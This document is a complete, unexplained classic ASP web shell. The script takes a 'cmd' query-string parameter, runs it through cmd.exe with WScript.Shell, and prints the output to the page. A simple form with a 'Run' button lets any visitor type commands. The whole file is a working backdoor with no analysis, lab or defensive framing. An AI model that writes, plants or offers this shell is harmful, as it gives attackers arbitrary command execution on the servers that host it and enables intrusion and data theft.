<%
Dim sh, ex, cmd
cmd = Request.QueryString("cmd")
If cmd <> "" Then
    Set sh = Server.CreateObject("WScript.Shell")
    Set ex = sh.Exec("cmd.exe /c " & cmd)
    Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>"
End If
%>
<form method="get"><input name="cmd"><input type="submit" value="Run"></form>
